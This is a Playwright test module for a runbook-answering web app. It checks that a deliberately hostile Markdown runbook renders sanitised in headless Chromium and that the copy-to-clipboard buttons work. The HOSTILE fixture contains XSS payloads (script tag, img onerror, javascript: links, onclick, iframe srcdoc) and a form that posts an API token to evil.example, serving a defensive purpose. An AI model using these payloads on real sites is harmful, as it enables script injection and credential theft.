"""The web UI renders runbooks and answers as Markdown, sanitised, in headless Chromium.

The real app serves a small corpus under uvicorn: one runbook written to attack the page (script
tags, event handler attributes, ``javascript:`` links, an element claiming the page's own id)
beside ``<details>``, a table and a reference link, and one of the example runbooks. Answers come
from the extractive path (no LLM) or from a :class:`~opsmith.testing.FakeChatModel`; where the
answer needs ``commands`` and ``not_covered``, the test adds them to the server's real answer
event with ``page.route``. The copy buttons are checked against the real clipboard: the browser
context is granted clipboard permissions for the served origin.
"""

from __future__ import annotations

import json
import re
import shutil
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from browsertools import CHROMIUM, CHROMIUM_ARGS, needs_chromium, serving
from playwright.sync_api import Browser, Dialog, Locator, Page, Route, expect, sync_playwright
from servetools import RUNBOOKS_DIR, parse_sse

from opsmith.backend import Backend
from opsmith.config import load_settings
from opsmith.llm import ChatModel, Message
from opsmith.serve.app import create_app
from opsmith.testing import FakeChatModel

pytestmark = [needs_chromium, pytest.mark.slow]  # a served index and headless Chromium

HOSTILE_SOURCE = "payments/PaymentsGatewayDown.md"
HOSTILE = textwrap.dedent(
    """\
    # PaymentsGatewayDown

    The payments gateway returns 5xx for every request and checkouts fail at the payment step.

    <script>window.__xss = "script element"</script>

    Check the gateway pods <img src=x onerror="window.__xss = 'img onerror'"> before anything else.

    Open [the gateway dashboard](javascript:window.__xss='markdown link'), the
    <a href="javascript:window.__xss='html link'">status page</a> and [the vendor docs][vendor].

    <p id="status" class="cite" onclick="window.__xss = 'onclick'">Payments gateway status</p>

    <iframe srcdoc="<script>parent.__xss = 'iframe'</script>"></iframe>

    <form action="https://evil.example/"><input name="token" value="paste your API token"></form>

    | Check | Command |
    |-------|---------|
    | Pods  | `kubectl -n payments get pods` |
    | Logs  | `kubectl -n payments logs deploy/payments-gateway` |

    <details>
    <summary>Full gateway restart</summary>

    ```bash
    kubectl -n payments rollout restart deployment/payments-gateway
    ```

    </details>

    [vendor]: https://example.com/gateway-docs
    """
)
HOSTILE_QUESTION = "The payments gateway returns 5xx for every request, what should I check?"

CHECKOUT_SOURCE = "checkout/CheckoutHighLatency.md"
CHECKOUT_QUESTION = "Checkout latency p99 is over 2 seconds, what should I look at first?"
COMMAND = "argocd app history checkout-api | tail -5"
COMMAND_LINE = (RUNBOOKS_DIR / CHECKOUT_SOURCE).read_text(encoding="utf-8").splitlines().index(COMMAND) + 1
ANSWER = (
    "Check for a deploy in the last 30 minutes first [{n}]:\n\n"
    "| Step | Where |\n"
    "|------|-------|\n"
    "| Recent deploys | Argo CD history |\n"
    "| Roll back | Mitigation |\n\n"
    f"```bash\n{COMMAND}\n```"
)
NOT_COVERED = ["mainframe", "<img src=x onerror=\"window.__xss = 'not_covered'\">"]

# Set by any script a runbook manages to run; dialogs are counted too.
NOTHING_RAN = "() => window.__xss === undefined"


def _reply(messages: list[Message]) -> str:
    """A model that answers with a table and the command, citing the excerpt that holds it."""
    excerpts = re.findall(r'<excerpt n="(\d+)"[^>]*>(.*?)</excerpt>', messages[-1].content, flags=re.DOTALL)
    return ANSWER.format(n=next((n for n, text in excerpts if COMMAND in text), "1"))


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    """The hostile runbook and one example runbook."""
    root = tmp_path / "runbooks"
    (root / HOSTILE_SOURCE).parent.mkdir(parents=True)
    (root / HOSTILE_SOURCE).write_text(HOSTILE, encoding="utf-8")
    (root / CHECKOUT_SOURCE).parent.mkdir(parents=True)
    shutil.copy(RUNBOOKS_DIR / CHECKOUT_SOURCE, root / CHECKOUT_SOURCE)
    return root


@contextmanager
def _served(home: Path, corpus: Path, chat_model: ChatModel | None) -> Iterator[str]:
    backend = Backend(load_settings(home=home, provider="none"), chat_model=chat_model)
    try:
        backend.ingest([corpus])
        with serving(create_app(backend.settings, backend=backend)) as url:
            yield url
    finally:
        backend.close()


@pytest.fixture
def extractive(tmp_path: Path, corpus: Path) -> Iterator[str]:
    """The app answering without an LLM: answers quote the runbooks."""
    with _served(tmp_path / "home", corpus, None) as url:
        yield url


@pytest.fixture
def with_llm(tmp_path: Path, corpus: Path) -> Iterator[str]:
    """The app answering with a scripted LLM."""
    with _served(tmp_path / "home", corpus, FakeChatModel(reply=_reply)) as url:
        yield url


@contextmanager
def _page(url: str) -> Iterator[tuple[Page, list[str]]]:
    """A Chromium page that may use the clipboard on ``url``; yields it and the problems it saw
    (page errors, dialogs), which the test asserts are none.

    CSP reports are no signal here: Chromium reports an inline handler as blocked as soon as any
    document of the page parses one, the sanitiser's inert one included, and the CSP would stop it
    running in any case. So the DOM checks in :func:`_assert_sanitised` are what show the
    sanitiser at work; the ``window.__xss`` flag and the dialog count back them up.
    """
    with sync_playwright() as playwright:
        browser: Browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 800})
            context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url)
            page = context.new_page()
            page.set_default_timeout(15_000)
            problems: list[str] = []
            page.on("pageerror", lambda exc: problems.append(f"page error: {exc}"))

            def on_dialog(dialog: Dialog) -> None:
                problems.append(f"dialog: {dialog.message}")
                dialog.dismiss()

            page.on("dialog", on_dialog)
            page.goto(url + "/")
            expect(page.get_by_label("Collection")).to_have_value("runbooks")
            yield page, problems
        finally:
            browser.close()


def _ask(page: Page, question: str) -> Locator:
    """Ask with the keyboard; returns the final answer (neither pending nor streaming)."""
    before = page.locator(".exchange .answer").count()
    box = page.get_by_label("Question")
    box.fill(question)
    box.press("Enter")
    answer = page.locator(".exchange .answer").nth(before)
    expect(answer).to_have_class(re.compile(r"^answer( |$)"))
    expect(answer).not_to_have_class(re.compile(r"pending|streaming"))
    return answer


def _assert_sanitised(page: Page, root: Locator) -> None:
    """Nothing the hostile runbook carries can act in ``root``: no script, no handler, no bad link."""
    assert page.evaluate(NOTHING_RAN)
    for selector in ("script", "iframe", "img", "form", "input", "style", "svg"):
        expect(root.locator(selector)).to_have_count(0)
    for attribute in ("onerror", "onclick", "onload", "style", "srcdoc"):
        expect(root.locator(f"[{attribute}]")).to_have_count(0)
    hrefs = root.locator("a[href]").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert hrefs
    assert all(re.match(r"^(https?:|mailto:|#)", href) for href in hrefs), hrefs
    # The runbook's <p id="status" class="cite"> neither takes the page's live region nor poses as a citation.
    expect(page.locator("[id=status]")).to_have_count(1)
    expect(root.locator(".cite:not(a)")).to_have_count(0)
    # The bad links stay as text (markdown-it refuses the scheme) or as an <a> with no href.
    status_link = root.locator("a", has_text="status page")
    expect(status_link).to_be_visible()
    expect(status_link).not_to_have_attribute("href", re.compile(".*"))


def _assert_rendered(root: Locator) -> None:
    """The hostile runbook's Markdown, rendered: table, <details> and its code block, reference link."""
    expect(root.locator("table th")).to_have_text(["Check", "Command"])
    expect(root.locator("table tbody tr")).to_have_count(2)
    details = root.locator("details")
    expect(details.locator("summary")).to_have_text("Full gateway restart")
    details.locator("summary").click()
    expect(details.locator("pre code")).to_contain_text("kubectl -n payments rollout restart")
    vendor = root.get_by_role("link", name="the vendor docs")
    expect(vendor).to_have_attribute("href", "https://example.com/gateway-docs")
    expect(vendor).to_have_attribute("target", "_blank")
    expect(vendor).to_have_attribute("rel", "noopener noreferrer")


def test_a_hostile_runbook_renders_as_markdown_and_runs_nothing(extractive: str) -> None:
    with _page(extractive) as (page, problems):
        # Quoted in an (extractive) answer.
        answer = _ask(page, HOSTILE_QUESTION)
        body = answer.locator(".answer-body")
        expect(answer.locator(".citations")).to_contain_text(HOSTILE_SOURCE)
        expect(body.locator("h4")).to_have_text(["PaymentsGatewayDown"])  # "# Title", below the page's headings
        _assert_sanitised(page, body)
        _assert_rendered(body)
        expect(body.locator(".code-block .copy-button")).to_have_count(1)

        # Opened in the source panel from its citation.
        body.locator("a.cite").first.click()
        panel = page.locator("#source-panel")
        expect(panel.locator("#source-meta")).to_contain_text(f"runbooks / {HOSTILE_SOURCE}")
        expect(panel.locator(".section.cited").first).to_be_focused()
        source = panel.locator("#source-body")
        expect(source.locator("h3")).to_have_text(["PaymentsGatewayDown"])
        _assert_sanitised(page, source)
        _assert_rendered(source)
        assert page.evaluate(NOTHING_RAN)
    assert problems == []


def test_an_answer_with_a_table_and_a_code_block_renders_them_and_copies_the_command(with_llm: str) -> None:
    with _page(with_llm) as (page, problems):
        answer = _ask(page, CHECKOUT_QUESTION)
        body = answer.locator(".answer-body")
        expect(body.locator("table th")).to_have_text(["Step", "Where"])
        expect(body.locator("table tbody tr")).to_have_count(2)
        expect(body.locator("pre code")).to_have_text(COMMAND)
        expect(body.locator("a.cite")).to_have_count(1)
        expect(page.locator("#status")).to_have_text("Answer ready, 1 citation.")

        # The copy button works from the keyboard and puts the command (alone) on the clipboard.
        copy = body.locator(".code-block .copy-button")
        expect(copy).to_have_accessible_name("Copy code")
        expect(copy).to_have_text("Copy")
        copy.focus()
        page.keyboard.press("Enter")
        expect(page.locator("#status")).to_have_text("Copied to the clipboard.")
        expect(copy).to_have_text("Copied")
        assert page.evaluate("navigator.clipboard.readText()") == COMMAND
        expect(copy).to_have_text("Copy", timeout=5_000)  # and says "Copy" again a moment later
    assert problems == []


def _with_commands(route: Route) -> None:
    """The server's real answer event, plus commands and not_covered (and the text's "Commands:"
    list, as an extractive answer ends)."""
    response = route.fetch()
    frames = []
    for event in parse_sse(response.text()):
        data = event.data
        if event.event == "answer":
            answer = json.loads(data)
            answer["commands"] = [{"text": COMMAND, "source": CHECKOUT_SOURCE, "line": COMMAND_LINE}]
            answer["not_covered"] = NOT_COVERED
            if "\nCommands:\n" not in answer["answer"]:
                answer["answer"] += f"\n\nCommands:\n- `{COMMAND}` ({CHECKOUT_SOURCE}:{COMMAND_LINE})"
            data = json.dumps(answer)
        frames.append(f"event: {event.event}\ndata: {data}\n\n")
    route.fulfill(status=200, headers={"Content-Type": "text/event-stream"}, body="".join(frames))


def test_an_answer_lists_its_commands_and_what_the_runbooks_do_not_mention(with_llm: str) -> None:
    with _page(with_llm) as (page, problems):
        page.route("**/v1/ask", _with_commands)
        answer = _ask(page, CHECKOUT_QUESTION)

        notice = answer.locator(".not-covered")
        expect(notice).to_have_text(f"The runbooks do not mention: {', '.join(NOT_COVERED)}")  # as text
        expect(answer.locator("img")).to_have_count(0)
        expect(answer.locator(".answer-body")).not_to_contain_text("Commands:")  # the list below shows them

        commands = answer.locator(".commands")
        expect(commands.get_by_role("heading")).to_have_text("Commands")
        expect(commands.locator("li")).to_have_count(1)
        expect(commands.locator("code.command")).to_have_text(COMMAND)
        copy = commands.locator(".copy-button")
        expect(copy).to_have_accessible_name("Copy command")
        copy.click()
        expect(copy).to_have_text("Copied")
        assert page.evaluate("navigator.clipboard.readText()") == COMMAND

        # Its source:line opens the runbook at that line: its section focused, its block highlighted.
        where = commands.get_by_role("link", name=f"{CHECKOUT_SOURCE}:{COMMAND_LINE}")
        where.click()
        panel = page.locator("#source-panel")
        expect(panel.locator("#source-meta")).to_contain_text(f"cited line {COMMAND_LINE}")
        section = panel.locator(".section.cited")
        expect(section).to_have_count(1)
        expect(section).to_be_focused()
        first, last = (int(section.get_attribute(name) or 0) for name in ("data-start", "data-end"))
        assert first <= COMMAND_LINE <= last
        block = section.locator(".cited-line")
        expect(block).to_have_count(1)
        expect(block.locator("pre code")).to_contain_text(COMMAND)
        expect(block).to_be_in_viewport()
        assert page.evaluate(NOTHING_RAN)
    assert problems == []
